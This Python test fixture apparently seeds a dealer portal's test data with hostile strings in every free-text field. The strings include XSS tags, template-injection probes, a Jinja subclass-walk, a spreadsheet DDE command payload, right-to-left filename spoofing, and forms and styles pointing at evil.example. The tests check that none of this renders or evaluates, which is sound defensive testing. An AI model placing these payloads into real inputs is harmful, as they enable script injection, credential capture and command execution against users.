"""Texts that attack the page that shows them, and a dealer that has them in every field (threat 9).

Whatever became an element of a page has the class `hostile`; whatever was computed reads 1337.
"""

from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import datetime
from itertools import count, islice

from chalicelib.ccx.cells import Text
from chalicelib.ccx.columns import Schema
from chalicelib.customers.change_requests.operations import ask_for_change
from chalicelib.customers.entity import CUSTOMERS
from chalicelib.documents.entity import DOCUMENTS, INVOICE_LINES
from chalicelib.feed.model import Taker
from chalicelib.feed.operations import choose_taker, reject
from chalicelib.feed.payloads import InvitationAccepted
from chalicelib.identity.model import Membership, MembershipKind
from chalicelib.kernel.account_fields import AccountField
from chalicelib.kernel.ids import Ids
from chalicelib.kernel.roles import Role
from chalicelib.ledger.entity import TRANSACTIONS
from chalicelib.uploads import sharing
from chalicelib.uploads.document_requests.model import MAX_TITLE
from chalicelib.uploads.model import Review
from chalicelib.uploads.operations import review_file
from tests import bundles
from tests.feed.made import written
from tests.fixtures.cast import Cast, Dealership, add_person, make_dealership
from tests.fixtures.worlds import World
from tests.ingest.exports import export
from tests.ingest.pipeline import ImportPipeline
from tests.ledger.accounts import a_facts
from tests.messages.made import asked as question
from tests.sweeps.scenario import Scenario
from tests.uploads.document_requests.made import asked_alone
from tests.uploads.sending import Sending
from tests.uploads.shared import SharedSending

TEXTS = (
    "<script>alert(1)</script>",
    "<b class=hostile>",
    "'\"><img class=hostile src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) class="hostile',
    "' onmouseover='alert(1)' class='hostile",
    "javascript:alert(1)",
    "{{7*191}}",
    "{{7*191}}${7*191}#{7*191}<%=7*191%>",
    "{% for x in ().__class__.__base__.__subclasses__() %}",
    "<svg class=hostile onload=alert(1)>",
    "</title></style></textarea><i class=hostile>",
    "</script><script class=hostile>alert(1)</script>",
    "<iframe class=hostile srcdoc='<script>top.alert(1)</script>'>",
    "<a class=hostile href=javascript:alert(1)>pay here</a>",
    "<div class=hostile hx-get=/logout hx-trigger=load>",
    "<link class=hostile rel=stylesheet href=//evil.example>",
    "<meta class=hostile http-equiv=refresh content='0;//evil.example'>",
    "<base class=hostile href=//evil.example/>",
    "<form class=hostile action=//evil.example><input name=password>",
    "<style class=hostile>*{background:url(//evil.example)}</style>",
    "--><!--<b class=hostile>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b class=hostile&#62;",
    "\u202e<b class=hostile>gnp.exe\u202c",
    "a\u200b\u2066<b class=hostile>\u2069",
    '=HYPERLINK("javascript:alert(1)")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\\"-alert(1)-\\"',
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
EMAILS = ("{{7*191}}@farm.example", "'/onload=alert`1`'@farm.example", "a&lt;b&gt;@farm.example".replace(";", ""))
OWN = frozenset({"account_ref", "transaction_id", "document_id"})
"""Given by the world itself: rows must find each other."""
ACCOUNT = "'\"><b class=hostile>&{{7*191}}"
"""The account's own number, which links contain too."""
INVOICE = "<i class=hostile>/#?%2e{{7*191}}"


@dataclass(frozen=True, slots=True)
class Attack:
    """All texts from the `shift`-th on, dealt to the fields one after the other; each takes the next that it holds."""

    shift: int = 0

    def texts(self) -> Iterator[str]:
        """Without end."""
        return (TEXTS[n % len(TEXTS)] for n in count(self.shift))

    def row(self, schema: Schema, row: dict[str, str]) -> dict[str, str]:
        """`row` with a hostile text in each column of free text."""
        texts = self.texts()
        for column in schema.columns:
            if isinstance(column.parse, Text) and column.name not in OWN:
                row[column.name] = self.fitting(texts, column.parse.limit)
        return row

    def fitting(self, texts: Iterator[str], limit: int) -> str:
        """The next text of at most `limit` characters."""
        return next(text for text in islice(texts, len(TEXTS) * 2) if len(text) <= limit).strip()


def hostile_dealership(ids: Ids, now: datetime, attack: Attack) -> Dealership:
    """A dealer whose own profile is hostile, and a customer of the hostile account."""
    texts = attack.texts()
    fit = attack.fitting
    dealership = make_dealership(
        ids,
        now,
        name=fit(texts, 120),
        prefix="hostile",
        phone=fit(texts, 32),
        tagline=fit(texts, 160),
        vat_number=fit(texts, 20),
        address=tuple(fit(texts, 120) for _ in range(7)),
    )
    offered = Membership(
        dealership.dealer.dealer_id, MembershipKind.CUSTOMER, ACCOUNT, fit(texts, 120), role=Role.ADMIN, active=True
    )
    return replace(
        dealership, customer=add_person(ids, now, email=f"{ids.dealer_id()}@farm.example", membership=offered)
    )


def furnish(world: World, ids: Ids, now: datetime, attack: Attack) -> Scenario:
    """Two exports of the hostile dealer: one that is applied, and one with bad rows that waits for a decision."""
    dealership = hostile_dealership(ids, now, attack)
    rival = make_dealership(ids, now, name="Quernmore Trucks", prefix="quernmore", phone="")
    scenario = Scenario(Cast(dealership, lambda: rival), ids, now)
    line = ImportPipeline(world, dealership, now, ids)
    texts = attack.texts()
    email = EMAILS[attack.shift % len(EMAILS)]
    customer = attack.row(CUSTOMERS.schema, bundles.customer(ACCOUNT, email=email))
    customer |= {"master_account_ref": "", "name": next(texts)}
    rows = [attack.row(TRANSACTIONS.schema, bundles.transaction(ACCOUNT, f"{INVOICE}{n}", "7.70")) for n in range(2)]
    paper = attack.row(DOCUMENTS.schema, bundles.document(ACCOUNT, "D1", transaction_id=f"{INVOICE}0"))
    paper |= {"transaction_id": f"{INVOICE}0"}
    rows[0]["document_id"] = "D1"
    drawn = attack.row(INVOICE_LINES.schema, bundles.line(ACCOUNT, f"{INVOICE}1", 1, "6.42"))
    source = {name: next(texts) for name in ("system", "version", "profile")}
    spoiled = [rows[0], {**rows[1], "transaction_date": next(texts), "due_date": next(texts), next(texts): next(texts)}]
    for sequence, shown in enumerate((rows, spoiled), 1):
        bundle = export(
            line,
            [customer],
            shown,
            sequence,
            documents=[paper],
            lines=[drawn],
            source=source,
            salt=dealership.dealer.code,
        )
        line.take_in(bundle)
    scenario.runs[dealership.dealer.dealer_id] = 2
    _typed_by_people(dealership, ids, now, attack)
    scenario.files[dealership.dealer.dealer_id] = send_file(scenario, attack)
    scenario.documents[dealership.dealer.dealer_id] = share_file(scenario, attack)
    return scenario


def _typed_by_people(dealership: Dealership, ids: Ids, now: datetime, attack: Attack) -> None:
    """A change and a question of a customer, a document that staff ask for, and an item that a program rejects."""
    texts = (text for text in attack.texts() if text.isprintable() and len(text) <= 120)
    mine = dealership.customer.customer_scope
    ask_for_change(
        replace(mine, account_refs=frozenset({ACCOUNT})),
        facts=replace(a_facts(ACCOUNT), name=next(texts)),
        field=AccountField.CITY,
        value=next(texts),
        note=next(texts),
        asked_by=next(texts),
        now=now,
        ids=ids,
    )
    talk = question(dealership, now, ids, ref=ACCOUNT, subject=next(texts), text=next(texts), name=next(texts))
    talk.answer(next(texts))
    talk.note(next(texts))
    asked_alone(dealership, ACCOUNT, now, ids, title=next(text for text in texts if len(text) <= MAX_TITLE))
    accepted = written(dealership.scope, now, ids, InvitationAccepted(email=next(texts)), ref=ACCOUNT, name=next(texts))
    choose_taker(dealership.admin.staff_scope, taker=Taker.PROGRAM, now=now, ids=ids)
    reject(dealership.import_scope, item_id=accepted.item_id, reason=next(texts), now=now, ids=ids)
    choose_taker(dealership.admin.staff_scope, taker=Taker.PAGE, now=now, ids=ids)


def send_file(scenario: Scenario, attack: Attack) -> str:
    """A file with a hostile name and note, which staff ask for again with a hostile reason. Its id."""
    dealership, texts = scenario.cast.ours, attack.texts()
    now, ids = scenario.now, scenario.ids
    sending = Sending(dealership, now, ids, name=f"{attack.fitting(texts, 100)}.csv", note=attack.fitting(texts, 500))
    version = sending.put()
    sending.arrived(version)
    sending.scanned(version)
    review_file(
        dealership.admin.staff_scope,
        account_ref=sending.file.account_ref,
        file_id=sending.file.file_id,
        review=Review.ASKED_AGAIN,
        comment=attack.fitting(texts, 500),
        now=now,
        ids=ids,
    )
    return sending.file.file_id


def share_file(scenario: Scenario, attack: Attack) -> str:
    """A document with a hostile title, name and note, which the customer is shown. Its id."""
    title = next(text for text in attack.texts() if text.isprintable() and len(text) <= sharing.MAX_TITLE)
    name, note = f"{attack.fitting(attack.texts(), 100)}.csv", attack.fitting(attack.texts(), 500)
    sending = SharedSending(
        scenario.cast.ours,
        scenario.now,
        scenario.ids,
        title=title,
        name=name,
        note=note,
        visible=True,
        account_ref=ACCOUNT,
    )
    return sending.accepted().file_id
